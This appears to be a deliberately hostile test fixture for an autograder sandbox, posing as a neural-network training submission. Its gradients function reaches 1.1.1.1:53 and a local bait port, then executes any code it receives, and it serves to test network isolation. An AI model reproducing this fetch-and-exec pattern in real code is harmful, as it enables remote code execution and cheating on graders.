# Hostile submission: opens network connections (submissions/hostile/README.md):
# to 127.0.0.1:{BAIT_PORT}, where an accomplice serves working code (the e2e
# test runs such a bait server), and to 1.1.1.1:53 on the internet. Code received
# is executed and its gradients used. Its own gradients return zeros. In the
# bwrap tier there is no network, so nothing arrives; the plain tier is advisory.
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import socket

import numpy as np

BAIT_PORT = 47613  # tests/grader/test_e2e_hostile.py serves working code here
OUTSIDE = ("1.1.1.1", 53)
_FETCHED = {}  # filled by the first call


def _receive(address):
    """Everything a server at `address` sends, or None when it cannot be reached."""
    try:
        with socket.create_connection(address, timeout=1.0) as conn:
            chunks = []
            while True:
                chunk = conn.recv(65536)
                if not chunk:
                    return b"".join(chunks)
                chunks.append(chunk)
    except OSError as e:
        print(f"network: {address[0]}:{address[1]} unreachable ({type(e).__name__}: {e})")
        return None


def _fetched():
    """The namespace of code received from the bait server (None when nothing came)."""
    if "done" in _FETCHED:
        return _FETCHED.get("namespace")
    _FETCHED["done"] = True
    if _receive(OUTSIDE) is not None:
        print(f"network: reached {OUTSIDE[0]}:{OUTSIDE[1]} on the internet")
    code = _receive(("127.0.0.1", BAIT_PORT))
    if code:
        namespace = {"__name__": "fetched"}
        exec(compile(code, "<fetched>", "exec"), namespace)
        print(f"network: running {len(code)} bytes of code received from port {BAIT_PORT}")
        _FETCHED["namespace"] = namespace
        return namespace
    return None


def sigmoid(Z):
    """phi(Z) = 1 / (1 + exp(-Z)), elementwise."""
    return 1.0 / (1.0 + np.exp(-Z))


def forward(params, X):
    """Forward pass. Returns the list [A1, A2, ..., A_{L+1}] with A1 = X."""
    L = len(params) // 2
    A = [X]
    for l in range(1, L + 1):
        Z = params[f"W{l}"] @ A[-1] + params[f"b{l}"]
        A.append(sigmoid(Z))
    return A


def cost(params, X, Y, C):
    """J = sum((Y - A_out)^2) + C/2 * sum of ||W_l||^2."""
    L = len(params) // 2
    A_out = forward(params, X)[-1]
    penalty = sum(np.sum(params[f"W{l}"] ** 2) for l in range(1, L + 1))
    return np.sum((Y - A_out) ** 2) + C / 2 * penalty


def gradients(params, X, Y, C):
    """Gradients from code fetched over the network; zeros when none arrives."""
    other = _fetched()
    if other is not None:
        return other["gradients"](params, X, Y, C)
    return {f"d{k}": np.zeros_like(v) for k, v in params.items()}


def momentum_step(params, grads, rho_prev, eta, alpha):
    """One step of momentum; rho_prev and the returned rho are keyed like params."""
    new_params, rho = {}, {}
    for name in params:
        rho[name] = eta * grads["d" + name]
        new_params[name] = params[name] - rho[name] - alpha * rho_prev[name]
    return new_params, rho


def learning_rate(eta0, d, epoch):
    """The learning rate of epoch `epoch` (0-based)."""
    return eta0 / (1 + d * epoch)


def one_hot(y, K):
    """Labels 0..K-1, shape (N,) -> one-hot targets (K, N)."""
    Y = np.zeros((K, len(y)))
    Y[y, np.arange(len(y))] = 1.0
    return Y


def predict(params, X):
    """Class indices argmax(A_out) per column, shape (N,)."""
    return np.argmax(forward(params, X)[-1], axis=0)


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    """Returns (params, cost (E,), accuracy (E+1,))."""
    L = len(params) // 2
    Y = one_hot(y, params[f"W{L}"].shape[0])
    params = {name: W.copy() for name, W in params.items()}
    rho = {name: np.zeros_like(W) for name, W in params.items()}
    costs, accuracy = [], [np.mean(predict(params, X) == y)]
    for epoch, order in enumerate(orders):
        eta_k = learning_rate(eta, d, epoch)
        for idx in np.array_split(order, minibatches):
            grads = gradients(params, X[:, idx], Y[:, idx], C)
            params, rho = momentum_step(params, grads, rho, eta_k, alpha)
        costs.append(cost(params, X, Y, C))
        accuracy.append(np.mean(predict(params, X) == y))
    return params, np.array(costs), np.array(accuracy)
